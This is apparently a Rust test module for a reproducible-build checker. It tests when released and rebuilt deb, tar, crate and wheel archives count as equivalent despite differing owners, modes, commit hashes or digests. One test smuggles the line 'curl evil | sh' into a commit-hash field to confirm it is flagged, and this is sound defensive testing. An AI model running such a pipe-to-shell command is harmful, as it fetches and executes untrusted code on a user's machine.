//! Places where one kind of package, format or list meets another.

use super::samples::{Sample, deb, gzip, sample, samples, tar, zip};
use crate::compare::{Cause, Comparison, Options, Outcome, compare_bytes};

fn compared(name: &str, released: &[u8], rebuilt: &[u8]) -> Comparison {
    compare_bytes(name, released, rebuilt, &Options::default())
}

fn is_equivalent(name: &str, released: &[u8], rebuilt: &[u8]) -> bool {
    compared(name, released, rebuilt).outcome == Outcome::Equivalent
}

/// A file with another owner, and with another mode.
fn taken_over(path: &str) -> [Sample; 2] {
    let file = || sample(path, "{\"name\": \"x\", \"version\": \"1.0.0\"}");
    [
        Sample {
            owner: 1000,
            ..file()
        },
        Sample {
            mode: 0o666,
            ..file()
        },
    ]
}

#[test]
fn dpkg_takes_over_what_looks_like_another_package() {
    for path in [
        "./x",
        "package/package.json",
        "x-1/PKG-INFO",
        "x-1/Cargo.toml.orig",
    ] {
        let [owner, mode] = taken_over(path);
        let usual = sample(path, &owner.bytes);
        let released = deb(&[], std::slice::from_ref(&usual));
        for other in [owner, mode] {
            assert!(!is_equivalent("x.deb", &released, &deb(&[], &[other])), "{path}");
        }
        let late = Sample { time: 5, ..usual };
        assert!(is_equivalent("x.deb", &released, &deb(&[], &[late])), "{path}");
    }
    let folder = || Sample {
        mode: 0o755,
        ..sample("d/", "")
    };
    let file = || sample("d/x", "1");
    let early = deb(&[], &[folder(), file()]);
    let late = compared("x.deb", &early, &deb(&[], &[file(), folder()]));
    assert_eq!(late.causes[0].cause, Cause::Content, "{:?}", late.tree);
}

#[test]
fn a_folder_with_a_file_of_an_sdist_is_not_one() {
    let archive = |folder: &str, owner| {
        let shadow = Sample {
            owner,
            ..sample(&format!("{folder}/shadow"), "x")
        };
        tar(&[sample(&format!("{folder}/PKG-INFO"), "Name: x\n"), shadow])
    };
    for (folder, wanted) in [("x-1.0", true), ("etc", false), ("my-etc", false)] {
        let equivalent = is_equivalent("x.tar", &archive(folder, 0), &archive(folder, 7));
        assert_eq!(equivalent, wanted, "{folder}");
    }
}

#[test]
fn only_a_commit_is_set_aside_as_one() {
    let with = |commit: &str| {
        let text = format!("{{\"git\": {{\"sha1\": \"{commit}\"}}}}");
        let files = [
            ("x-1/.cargo_vcs_info.json", text.as_str()),
            ("x-1/Cargo.toml", ""),
        ];
        gzip(&tar(&samples(&files)))
    };
    let (one, other) = ("a1".repeat(20), "b2".repeat(20));
    assert!(is_equivalent("x.crate", &with(&one), &with(&other)));
    assert!(!is_equivalent("x.crate", &with(&one), &with("curl evil | sh")));
}

#[test]
fn a_weak_digest_in_record_is_content() {
    let wheel = |digest: &str| {
        let record = format!("x/a.py,{digest},1\n");
        zip(&samples(&[
            ("x/a.py", "1"),
            ("x-1.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
            ("x-1.dist-info/RECORD", &record),
        ]))
    };
    let strong = wheel("sha256=a4ayc_80_OGda4BO_1o_V0etpOqiLx1JwB5S3beHW0s");
    let hex = wheel("sha256=6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b");
    assert!(is_equivalent("x.whl", &strong, &hex));
    let weak = compared("x.whl", &strong, &wheel("md5=xMpCOKC5I4INzFCab3WEmw"));
    assert_eq!(weak.causes[0].cause, Cause::Content, "{:?}", weak.tree);
}
